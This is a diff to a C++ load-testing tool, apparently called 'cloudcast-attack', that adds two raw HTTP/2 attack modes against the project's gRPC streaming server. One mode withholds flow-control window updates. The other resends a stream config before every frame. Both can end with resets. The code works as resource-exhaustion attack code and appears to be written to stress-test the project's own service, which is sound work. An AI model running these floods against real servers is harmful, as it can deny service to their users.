@@ -11,6 +11,13 @@
 //   greedy-streams      gRPC: --calls DELIVERY_ALL streams, each on its own channel, sending
 //                       frames as fast as flow control lets them
 //   silent-streams      gRPC: --calls Stream calls that send one StreamConfig, then nothing
+//   stalled-window      raw HTTP/2 (issue 30): --calls DELIVERY_ALL Stream calls on --connections
+//                       connections advertising HTTP/2's default 64 KB window, sending frames,
+//                       and never giving the window of the replies back (or at --window-rate
+//                       bytes a second)
+//   config-churn        raw HTTP/2 (issue 30): --calls Stream calls that send a new StreamConfig
+//                       before every frame, as fast as flow control lets them, reading every
+//                       reply; then the client leaves (--exit: half-close and close, by default)
 //
 // --source ADDR makes every connection leave from ADDR (another loopback address: 127.0.0.2, ...),
 // the way a second machine would connect: its gRPC channels included (see connect() below).
@@ -387,6 +394,180 @@ json GreedyStreams(const Common& c, int calls, std::uint32_t side) {
   return out;
 }
 
+// ------------------------------------------------------------------------------------------------
+// Stream calls written frame by frame on raw HTTP/2 connections (issue 30): what a client does
+// with its flow-control window and how it leaves are the attack, which a gRPC library does not let
+// a client choose.
+
+struct RawStreamsOptions {
+  int calls = 4;
+  int connections = 1;
+  WindowPolicy window;
+  double fps = 0;      // per call; 0: as fast as the windows let it
+  bool churn = false;  // a new StreamConfig before every frame
+  float leaf = 0;      // the configs' voxel leaf (0: the server's default)
+  std::string exit = "close";
+};
+
+// A StreamRequest{config}, as a gRPC message. `variant` changes the config (the draco speed), so
+// that each config of a churning client differs from the one before.
+std::string ConfigMessage(float leaf, int variant) {
+  v1::StreamRequest r;
+  v1::StreamConfig* config = r.mutable_config();
+  config->set_delivery(v1::DELIVERY_ALL);
+  if (leaf > 0) config->mutable_voxel_grid()->set_leaf(leaf);
+  config->mutable_draco()->set_encode_speed(variant % 2 == 0 ? 10 : 9);
+  return GrpcMessage(r.SerializeAsString());
+}
+
+json RawStreams(const Common& c, const char* name, const RawStreamsOptions& o,
+                const v1::Frame& frame) {
+  std::string host;
+  int port = 0;
+  if (!SplitHostPort(c.target, &host, &port)) {
+    return {{"error", "--target must be IPV4:PORT, got " + c.target}};
+  }
+  std::vector<std::unique_ptr<RawH2Connection>> connections;
+  for (int i = 0; i < o.connections; ++i) {
+    auto conn = RawH2Connection::Connect(host, port, c.source, o.window);
+    if (!conn.ok()) return {{"error", std::string(conn.status().message())}};
+    connections.push_back(*std::move(conn));
+  }
+  // The frame's bytes once; each send patches its sequence in front (field 1 of Frame may come
+  // first: a parser takes the last value of a field, so the frame's own sequence, 0, is left out).
+  v1::Frame tail = frame;
+  tail.clear_sequence();
+  const std::string tail_bytes = tail.SerializeAsString();
+  auto frame_message = [&](std::uint64_t sequence) {
+    v1::Frame head;
+    head.set_sequence(sequence + 1);
+    std::string frame_bytes = head.SerializeAsString() + tail_bytes;
+    std::string request;
+    // StreamRequest.frame is field 2 (length-delimited): tag, varint length, the bytes.
+    request.push_back(static_cast<char>((v1::StreamRequest::kFrameFieldNumber << 3) | 2));
+    for (std::uint64_t n = frame_bytes.size();; n >>= 7) {
+      if (n < 128) {
+        request.push_back(static_cast<char>(n));
+        break;
+      }
+      request.push_back(static_cast<char>((n & 0x7f) | 0x80));
+    }
+    request += frame_bytes;
+    return GrpcMessage(request);
+  };
+  const std::string headers = GrpcRequestHeaders("/cloudcast.v1.CloudCast/Stream", c.target);
+  Ready(name);
+  const auto t0 = Clock::now();
+  const auto deadline = Deadline(c);
+  // Call i is stream 1 + 2 * (i / connections) on connection i % connections, opened in order.
+  struct Call {
+    RawH2Connection* conn;
+    std::uint32_t stream;
+  };
+  std::vector<Call> calls;
+  for (int i = 0; i < o.calls; ++i) {
+    Call call{connections[static_cast<std::size_t>(i % o.connections)].get(),
+              1 + 2 * static_cast<std::uint32_t>(i / o.connections)};
+    if (!call.conn->OpenStream(call.stream, headers, false, deadline)) break;
+    calls.push_back(call);
+  }
+  std::atomic<std::uint64_t> frames_sent{0}, configs_sent{0}, bytes_sent{0};
+  std::vector<std::thread> threads;
+  for (const Call& call : calls) {
+    threads.emplace_back([&, call] {
+      std::string first = ConfigMessage(o.leaf, 0);
+      if (!call.conn->SendData(call.stream, first, false, deadline)) return;
+      configs_sent.fetch_add(1);
+      bytes_sent.fetch_add(first.size());
+      const auto period = o.fps > 0 ? std::chrono::duration<double>(1.0 / o.fps)
+                                    : std::chrono::duration<double>(0);
+      auto next = Clock::now();
+      for (std::uint64_t n = 0; Clock::now() < deadline; ++n) {
+        std::string bytes = o.churn ? ConfigMessage(o.leaf, static_cast<int>(n + 1)) : "";
+        bytes += frame_message(n);
+        if (!call.conn->SendData(call.stream, bytes, false, deadline)) return;
+        frames_sent.fetch_add(1);
+        if (o.churn) configs_sent.fetch_add(1);
+        bytes_sent.fetch_add(bytes.size());
+        if (o.fps > 0) {
+          next += std::chrono::duration_cast<Clock::duration>(period);
+          std::this_thread::sleep_until(std::min(next, deadline));
+        }
+      }
+    });
+  }
+  for (auto& t : threads) t.join();
+  // How the client leaves. A program that exits stops reading first: replies still arriving
+  // then stay unread, and its kernel resets the connection when the socket closes (a program
+  // that read everything ends with a FIN, after whatever it had not yet sent).
+  std::uint64_t ended_before_exit = 0;
+  for (const Call& call : calls) ended_before_exit += call.conn->StreamEnded(call.stream) ? 1 : 0;
+  const auto exit_deadline = Clock::now() + std::chrono::milliseconds(500);
+  if (o.exit == "close" || o.exit == "drain") {
+    for (const Call& call : calls) call.conn->SendData(call.stream, "", true, exit_deadline);
+  } else if (o.exit == "reset") {
+    for (const Call& call : calls) call.conn->Write(RstStream(call.stream, kCancel), exit_deadline);
+  }
+  std::uint64_t drained = 0;
+  if (o.exit == "drain") {
+    // The server answers what it holds and ends each call: at most 5 s.
+    const auto give_up = Clock::now() + std::chrono::seconds(5);
+    for (const Call& call : calls) {
+      while (!call.conn->StreamEnded(call.stream) && !call.conn->closed() &&
+             Clock::now() < give_up) {
+        std::this_thread::sleep_for(std::chrono::milliseconds(20));
+      }
+      drained += call.conn->StreamEnded(call.stream) ? 1 : 0;
+    }
+  }
+  for (auto& conn : connections) {
+    conn->StopReading();
+    if (o.exit == "abort") conn->ResetOnClose();
+  }
+  if (o.exit != "abort") std::this_thread::sleep_for(std::chrono::milliseconds(100));
+  ConnectionStats total;
+  std::uint64_t closed_by_peer = 0;
+  std::map<std::uint32_t, std::uint64_t> goaway_codes;
+  for (auto& conn : connections) {
+    const ConnectionStats s = conn->stats();
+    total.data_bytes_received += s.data_bytes_received;
+    total.window_given_back += s.window_given_back;
+    total.messages_received += s.messages_received;
+    total.streams_ended += s.streams_ended;
+    total.rst_streams_received += s.rst_streams_received;
+    total.goaways += s.goaways;
+    if (s.goaways > 0) ++goaway_codes[s.last_goaway_code];
+    closed_by_peer += conn->closed() ? 1 : 0;
+  }
+  const double seconds = Since(t0);
+  connections.clear();  // the client is gone: its sockets are closed
+  json codes = json::object();
+  for (const auto& [code, n] : goaway_codes) codes[std::to_string(code)] = n;
+  return {{"attack", name},
+          {"calls", calls.size()},
+          {"connections", o.connections},
+          {"window", o.window.mode == WindowPolicy::kAsReceived ? "as received"
+                     : o.window.mode == WindowPolicy::kNever    ? "never"
+                                                                : "rate"},
+          {"window_rate", o.window.bytes_per_second},
+          {"exit", o.exit},
+          {"frames_sent", frames_sent.load()},
+          {"configs_sent", configs_sent.load()},
+          {"bytes_sent", bytes_sent.load()},
+          {"frame_bytes", tail_bytes.size()},
+          {"data_bytes_received", total.data_bytes_received},
+          {"replies_received", total.messages_received},
+          {"window_given_back", total.window_given_back},
+          {"streams_ended_by_peer_before_exit", ended_before_exit},
+          {"streams_ended_by_peer", total.streams_ended},
+          {"drained", drained},
+          {"rst_streams_received", total.rst_streams_received},
+          {"goaways", total.goaways},
+          {"goaway_codes", codes},
+          {"connections_closed_by_peer", closed_by_peer},
+          {"seconds", seconds}};
+}
+
 json SilentStreams(const Common& c, int calls) {
   v1::StreamRequest config;
   config.mutable_config()->set_delivery(v1::DELIVERY_ALL);
@@ -518,6 +699,56 @@ int main(int argc, char** argv) {
       ->check(CLI::Range(1, 1024))
       ->capture_default_str();
 
+  RawStreamsOptions raw;
+  double window_rate = 0;
+  std::string frame_encoding = "raw";
+  std::uint32_t raw_side = 640;
+  auto add_raw = [&](CLI::App* sub) {
+    add_common(sub);
+    sub->add_option("--calls", raw.calls, "Stream calls")
+        ->check(CLI::Range(1, 1000))
+        ->capture_default_str();
+    sub->add_option("--connections", raw.connections,
+                    "Connections the calls are spread over (round robin)")
+        ->check(CLI::Range(1, 64))
+        ->capture_default_str();
+    sub->add_option("--side", raw_side, "Frame width and height, pixels (uniform disparity 100)")
+        ->check(CLI::Range(16, 4096))
+        ->capture_default_str();
+    sub->add_option("--encoding", frame_encoding, "raw, zstd (compressed raw) or png")
+        ->check(CLI::IsMember({"png", "zstd", "raw"}))
+        ->capture_default_str();
+    sub->add_option("--leaf", raw.leaf, "The configs' voxel leaf; 0: the server's default")
+        ->check(CLI::Range(0.0, 100.0))
+        ->capture_default_str();
+    sub->add_option("--fps", raw.fps, "Frames a second per call; 0: as fast as the windows allow")
+        ->check(CLI::Range(0.0, 1000.0))
+        ->capture_default_str();
+    sub->add_option("--exit", raw.exit,
+                    "How the client leaves at the end, as a program that exits: close (END_STREAM "
+                    "on each call, reading stops, the socket is closed 100 ms later: the kernel "
+                    "resets the connection if replies arrived meanwhile, else sends a FIN after "
+                    "what is unsent), drain (END_STREAM, then up to 5 s for the server to end each "
+                    "call, then as close), reset (RST_STREAM CANCEL on each, then as close), "
+                    "abort (a TCP reset at once, nothing said)")
+        ->check(CLI::IsMember({"close", "drain", "reset", "abort"}))
+        ->capture_default_str();
+  };
+  auto* sw = app.add_subcommand(
+      "stalled-window",
+      "DELIVERY_ALL Stream calls on raw HTTP/2 connections advertising the default 64 KB window, "
+      "sending frames and never giving the window of the replies back (or slowly)");
+  add_raw(sw);
+  sw->add_option("--window-rate", window_rate,
+                 "Bytes a second of window given back (connection and streams); 0: never")
+      ->check(CLI::Range(0.0, 1e9))
+      ->capture_default_str();
+  auto* cc = app.add_subcommand(
+      "config-churn",
+      "Stream calls on a raw HTTP/2 connection sending a new StreamConfig before every frame, as "
+      "fast as flow control lets them, reading every reply; then leaving (--exit)");
+  add_raw(cc);
+
   CLI11_PARSE(app, argc, argv);
   if (!common.source.empty() && inet_pton(AF_INET, common.source.c_str(), &g_source) != 1) {
     std::cerr << "cloudcast-attack: --source '" << common.source << "' is not an IPv4 address\n";
@@ -532,6 +763,18 @@ int main(int argc, char** argv) {
     result = BigFrames(common, calls, side, encoding, leaf);
   } else if (gs->parsed()) {
     result = GreedyStreams(common, calls, side);
+  } else if (sw->parsed() || cc->parsed()) {
+    auto frame = BigFrame(raw_side, frame_encoding, 100);
+    if (!frame.ok()) {
+      result = {{"error", std::string(frame.status().message())}};
+    } else if (sw->parsed()) {
+      raw.window.mode = window_rate > 0 ? WindowPolicy::kRate : WindowPolicy::kNever;
+      raw.window.bytes_per_second = window_rate;
+      result = RawStreams(common, "stalled-window", raw, *frame);
+    } else {
+      raw.churn = true;
+      result = RawStreams(common, "config-churn", raw, *frame);
+    }
   } else {
     result = SilentStreams(common, calls);
   }
